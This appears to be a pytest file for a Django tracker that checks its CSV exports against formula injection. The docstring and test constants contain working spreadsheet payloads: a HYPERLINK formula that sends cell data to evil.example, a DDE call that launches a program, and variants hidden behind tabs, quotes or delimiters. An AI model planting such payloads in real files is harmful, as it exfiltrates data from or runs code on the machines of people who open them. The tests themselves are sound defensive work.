"""Replaying CSV injection ("formula injection") against the tracker's two CSV exports.

The attack: someone who can put text into the tracker (an editor, or whoever wrote a document that
gets imported) makes a cell begin with `=`, `+`, `-` or `@`. A colleague downloads a CSV export and
opens it in Excel or LibreOffice, which runs the cell as a formula: a HYPERLINK that sends the
neighbouring cells to the attacker's server when clicked, or a DDE call (`=cmd|' /C calc'!A0`) that
starts a program on the colleague's machine. Some spreadsheets skip a leading tab or carriage return
and still run the formula behind it; a delimiter or a double quote in the text may try to open a
cell of its own, so that the formula stands at the beginning of that one.

Each test replays one attack from the attacker's way in to the file the colleague downloads, and
checks OWASP's defence: a cell that begins like a formula comes out with a leading `'` (a spreadsheet
shows it as text), and no text can open a cell of its own.
"""

import csv
import io
import json

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile

from tests.factories import CommitmentFactory
from tracker.exports import list_export, tracker_export
from tracker.exports.csv import FORMULA_TRIGGERS
from tracker.models import Commitment, Question

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'
DDE = "=cmd|' /C calc'!A0"

# Every button a colleague may click to download a CSV: the list's two, the overdue page's, the export page's two.
DOWNLOADS = {
    "list": ("/commitments/export.csv", {}, ","),
    "list-for-dutch-excel": ("/commitments/export.csv", {"delimiter": "semicolon"}, ";"),
    "overdue-page": ("/commitments/export.csv", {"overdue": "on", "sort": "overdue"}, ","),
    "everything": ("/export/", {"format": "csv"}, ","),
    "everything-for-dutch-excel": ("/export/", {"format": "csv", "delimiter": "semicolon"}, ";"),
}


def download(client, button: str) -> tuple[str, list[dict]]:
    """What the colleague's spreadsheet receives: the raw text, and the rows it reads from it."""
    url, params, delimiter = DOWNLOADS[button]
    response = client.get(url, params)
    assert response.status_code == 200
    body = b"".join(response.streaming_content).decode("utf-8")
    rows = list(csv.DictReader(io.StringIO(body.removeprefix("\ufeff"), newline=""), delimiter=delimiter))
    return body, rows


def cells_a_spreadsheet_would_run(rows: list[dict]) -> list[str]:
    return [value for row in rows for value in row.values() if value.startswith(FORMULA_TRIGGERS)]


def edit_title(editor_client, commitment: Commitment, title: str) -> None:
    response = editor_client.post(
        f"/commitments/{commitment.pk}/edit/",
        {"title": title, "kind": commitment.kind, "target_group": "", "quote": commitment.quote, "version": commitment.version},
    )
    assert response.status_code == 302, "the editor's change is saved"


@pytest.mark.parametrize("button", DOWNLOADS)
def test_a_hyperlink_title_reaches_the_colleague_as_text_not_as_a_link(editor_client, viewer_client, button):
    """An editor gives a commitment the title `=HYPERLINK("http://evil.example/?"&A1,"click")`; a
    colleague exports the list (or everything) and opens it in Excel. Run as a formula, the cell would
    be a link that sends cell A1 to evil.example; written as `'=HYPERLINK(...)` it is the text the
    editor typed."""
    edit_title(editor_client, CommitmentFactory(), HYPERLINK)
    body, [row] = download(viewer_client, button)
    assert row["title"] == "'" + HYPERLINK
    assert '"\'=HYPERLINK(""http://evil.example/?""&A1,""click"")"' in body
    assert cells_a_spreadsheet_would_run([row]) == []


@pytest.mark.parametrize("button", ["everything", "everything-for-dutch-excel"])
def test_a_dde_command_in_a_status_note_stays_inside_the_history_cell(editor_client, viewer_client, button):
    """An editor records a status with the note `x; =cmd|' /C calc'!A0`, hoping that the export's
    delimiter ends the cell before the DDE call, so that the call begins a cell and starts a program
    when the colleague opens the export of everything. The note stays inside the history cell, which
    begins with the date the status was observed on."""
    commitment = CommitmentFactory()
    response = editor_client.post(
        f"/commitments/{commitment.pk}/status/", {"status": "in_progress", "observed_on": "2019-01-01", "note": f"x; {DDE}"}
    )
    assert response.status_code == 302, "the status is recorded"
    _body, [row] = download(viewer_client, button)
    assert row["status_history"].endswith(f"2019-01-01 in_progress (x; {DDE})")
    assert list(row) == tracker_export.CSV_COLUMNS, "no cell more"
    assert cells_a_spreadsheet_would_run([row]) == []


@pytest.mark.parametrize("button", DOWNLOADS)
def test_a_title_that_closes_its_quotes_and_its_cell_cannot_open_a_cell_of_its_own(editor_client, viewer_client, button):
    """An editor gives a commitment the title `Studie",=HYPERLINK(...);"=HYPERLINK(...)`: a double
    quote to end a quoted cell, then a comma or a semicolon to begin the next one with a formula. The
    whole title stays one cell, and the row has exactly its columns."""
    title = f'Studie",{HYPERLINK};"{HYPERLINK}'
    edit_title(editor_client, CommitmentFactory(), title)
    _body, [row] = download(viewer_client, button)
    assert row["title"] == title
    columns = tracker_export.CSV_COLUMNS if button.startswith("everything") else list_export.CSV_COLUMNS
    assert list(row) == columns, "no cell more, no cell less"


@pytest.mark.parametrize("hidden_by", ["\t", "\r"], ids=["tab", "carriage-return"])
@pytest.mark.parametrize("button", DOWNLOADS)
def test_a_formula_behind_a_tab_or_a_carriage_return_is_written_as_text(viewer_client, button, hidden_by):
    """A commitment's title is a tab (or a carriage return) then `=HYPERLINK(...)`: a spreadsheet that
    skips the first character runs the rest. The forms strip such characters, but a database restored
    from someone else's backup, or changed by hand, keeps them; the export does not count on either."""
    commitment = CommitmentFactory()
    Commitment.objects.filter(pk=commitment.pk).update(title=hidden_by + HYPERLINK)
    _body, [row] = download(viewer_client, button)
    assert row["title"] == "'" + hidden_by + HYPERLINK


def test_formulas_in_an_imported_document_reach_both_exports_as_text(editor_client, viewer_client):
    """An editor imports a document in the tracker's JSON format, received from elsewhere: its subject
    is `@SUM(1+9)*cmd|' /C calc'!A0`, its commitment is titled `+HYPERLINK(...)` and quotes an answer
    sentence beginning with `-2+3+cmd|...`. Neither the list's export nor the export of everything
    hands any of them to the colleague's spreadsheet as a formula."""
    subject, title, quote = "@SUM(1+9)*cmd|' /C calc'!A0", "+" + HYPERLINK[1:], "-2+3+cmd|' /C calc'!A0 wordt uitgevoerd."
    document = {
        "number": 4242,
        "session_year": "2018-2019",
        "asked_on": "2019-01-10",
        "asker": "Ann Vraagsteller",
        "addressee": "Bart Minister",
        "subject": subject,
        "text": "1. Wat plant de minister?",
        "answer": {"answered_on": "2019-02-01", "text": f"1. {quote}"},
        "commitments": [{"title": title, "quote": quote, "kind": "action"}],
    }
    upload = SimpleUploadedFile("elsewhere.json", json.dumps(document).encode(), content_type="application/json")
    response = editor_client.post("/import/", {"files": [upload]})
    assert [entry["outcome"] for entry in response.context["run"].report] == ["created"]
    assert Question.objects.get().subject == subject, "the document is imported as it is"

    _body, [listed] = download(viewer_client, "list")
    assert (listed["title"], listed["subject"]) == ("'" + title, "'" + subject)
    _body, [everything] = download(viewer_client, "everything")
    assert (everything["title"], everything["quote"], everything["subject"]) == ("'" + title, "'" + quote, "'" + subject)
    assert cells_a_spreadsheet_would_run([listed, everything]) == []
